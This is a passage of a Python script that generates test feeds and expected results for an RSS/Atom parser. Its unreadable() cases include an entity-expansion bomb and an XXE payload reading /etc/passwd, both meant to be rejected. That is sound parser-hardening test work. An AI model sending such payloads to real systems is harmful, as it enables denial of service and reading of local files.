        body = "".join("<item><title>%s</title><link>%s</link><pubDate>%s</pubDate></item>" % (escape(i.title), "/post/" + i.slug, rfc822(i.time)) for i in its)
        xml = '<rss version="2.0"><channel><title>R</title>%s</channel></rss>' % body
        expected = [i.expected() for i in its]
    else:
        entries = "".join('<entry xml:base="/post/"><id>urn:%d</id><title>%s</title><link href="%s"/><published>%s</published></entry>' % (n, escape(i.title), i.slug, iso(i.time, 0, "Z")) for n, i in enumerate(its))
        xml = '<feed xmlns="http://www.w3.org/2005/Atom"><title>R</title>%s</feed>' % entries
        expected = [i.expected() for i in its]
    add("relative-links-%d" % k, xml, expected, "application/xml", url)


def permalink(k):
    host = "guid%d.example.com" % k
    its = items_for(host, 2)
    body = '<item><title>%s</title><guid>%s</guid><pubDate>%s</pubDate></item>' % (escape(its[0].title), its[0].link, rfc822(its[0].time))
    body += '<item><title>%s</title><guid isPermaLink="false">%s</guid><pubDate>%s</pubDate></item>' % (escape(its[1].title), its[1].link, rfc822(its[1].time))
    xml = '<rss version="2.0"><channel><title>G</title>%s</channel></rss>' % body
    add("guid-permalink-%d" % k, xml, [its[0].expected(), its[1].expected(link=None)], "application/rss+xml")


def atom_links(k):
    host = "links%d.example.com" % k
    its = items_for(host, 2)
    entries = "".join('<entry><id>tag:%s,2024:%d</id><title>%s</title><link rel="license" href="https://creativecommons.org/licenses/by/4.0/"/><link rel="self" href="https://%s/entries/%d.atom"/><link rel="enclosure" type="audio/mpeg" href="https://%s/%d.mp3"/><link rel="via" href="https://via.example/"/><link rel="related" href="https://related.example/%d"/><link rel="alternate" type="text/html" href="%s"/><updated>%s</updated></entry>' % (host, n, escape(i.title), host, n, host, n, n, i.link, iso(i.time, 0, "Z")) for n, i in enumerate(its))
    entries += '<entry><id>tag:%s,2024:x</id><title>No alternate</title><link rel="license" href="https://creativecommons.org/"/><updated>%s</updated></entry>' % (host, iso(its[0].time, 0, "Z"))
    xml = '<feed xmlns="http://www.w3.org/2005/Atom"><title>L</title>%s</feed>' % entries
    add("atom-link-relations-%d" % k, xml, [i.expected() for i in its] + [{"title": "No alternate", "link": None, "published": its[0].time}], "application/atom+xml")


def extensions(k):
    host = "ext%d.example.com" % k
    its = items_for(host, 3)
    body = '<item><dc:title>%s</dc:title><link>%s</link><dc:description>%s</dc:description><dcterms:modified>%s</dcterms:modified></item>' % (escape(its[0].title), its[0].link, escape(its[0].summary), iso(its[0].time, 0, "Z"))
    body += '<item><media:title>%s</media:title><link>%s</link><media:description>%s</media:description><dcterms:issued>%s</dcterms:issued></item>' % (escape(its[1].title), its[1].link, escape(its[1].summary), iso(its[1].time, 0, "Z"))
    body += '<item><title>%s</title><link>%s</link><xhtml:body><xhtml:p>%s</xhtml:p></xhtml:body><dcterms:created>%s</dcterms:created></item>' % (escape(its[2].title), its[2].link, escape(its[2].summary), iso(its[2].time, 0, "Z"))
    xml = '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:media="http://search.yahoo.com/mrss/" xmlns:xhtml="http://www.w3.org/1999/xhtml"><channel><title>E</title>%s</channel></rss>' % body
    add("extension-fields-%d" % k, xml, [i.expected() for i in its], "application/rss+xml")


def undeclared_prefix(k):
    host = "sloppy%d.example.com" % k
    its = items_for(host, 2)
    body = "".join("<item><title>%s</title><link>%s</link><dc:date>%s</dc:date><content:encoded>&lt;p&gt;%s&lt;/p&gt;</content:encoded></item>" % (escape(i.title), i.link, iso(i.time, 0, "Z"), escape(i.summary)) for i in its)
    xml = '<rss version="2.0"><channel><title>S</title>%s</channel></rss>' % body
    add("undeclared-prefix-%d" % k, xml, [i.expected() for i in its], "application/rss+xml")


def bare_ampersand(k):
    host = "amp%d.example.com" % k
    its = items_for(host, 2)
    body = "".join("<item><title>%s & Sons</title><link>%s?a=1&b=2</link><pubDate>%s</pubDate></item>" % (i.title, i.link, rfc822(i.time)) for i in its)
    xml = '<rss version="2.0"><channel><title>Smith & Sons</title>%s</channel></rss>' % body
    add("bare-ampersand-%d" % k, xml, [i.expected(title=i.title + " & Sons", link=i.link + "?a=1&b=2") for i in its], "application/rss+xml")


def unreadable(k):
    cases = [
        ("truncated", '<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item><title>cut off he', "truncated"),
        ("entity-bomb", '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">]><rss><channel><title>&lol7;</title></channel></rss>', "entity-declaration"),
        ("xxe", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&x;</title></channel></rss>', "entity-declaration"),
        ("html-page", '<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body><h1>502</h1></body></html>', "not-a-feed"),
        ("json", '{"error": "not a feed", "status": 404, "detail": "gone away"}', "malformed-xml"),
        ("mismatched", '<?xml version="1.0"?><rss version="2.0"><channel><item><title>x</title></channel></item></rss>', "unbalanced-elements"),
        ("not-a-feed", '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://e.example/</loc></url></urlset>', "not-a-feed"),
        ("unknown-charset", '<?xml version="1.0" encoding="x-klingon-8"?><rss version="2.0"><channel><title>k</title></channel></rss>', "unsupported-encoding"),
        ("empty", "   \n  ", "empty"),
        ("control-character", '<?xml version="1.0"?><rss version="2.0"><channel><title>bad \x01 byte</title></channel></rss>', "invalid-character"),
    ]
    name, xml, error = cases[k % len(cases)]
    add("unreadable-%s-%d" % (name, k), xml, [], None, None, "utf-8", error or "any")


GENERATORS = [(wordpress, 24), (blogger, 16), (medium, 12), (github, 14), (podcast, 16), (youtube, 12),
              (jobboard, 24), (rdf, 10), (atom03, 10), (prefixed, 10), (entities, 16), (encoded, 84),
              (dates, 20), (markup_titles, 10), (relative, 8), (permalink, 6), (atom_links, 6),
              (extensions, 6), (undeclared_prefix, 6), (bare_ampersand, 6), (unreadable, 20)]

for generator, count in GENERATORS:
    for k in range(count):
        generator(k)

os.makedirs(OUT, exist_ok=True)
for old in os.listdir(OUT):
    if old.endswith(".xml") or old.endswith(".json"):
        os.remove(os.path.join(OUT, old))
for n, (name, data, expected) in enumerate(corpus):
    base = os.path.join(OUT, "%03d-%s" % (n, name))
    with open(base + ".xml", "wb") as f:
        f.write(data)
    with open(base + ".json", "w") as f:
        json.dump(expected, f, ensure_ascii=False, indent=1, sort_keys=True)
        f.write("\n")
print(len(corpus), "feeds,", sum(len(e["items"]) for _, _, e in corpus), "expected items")
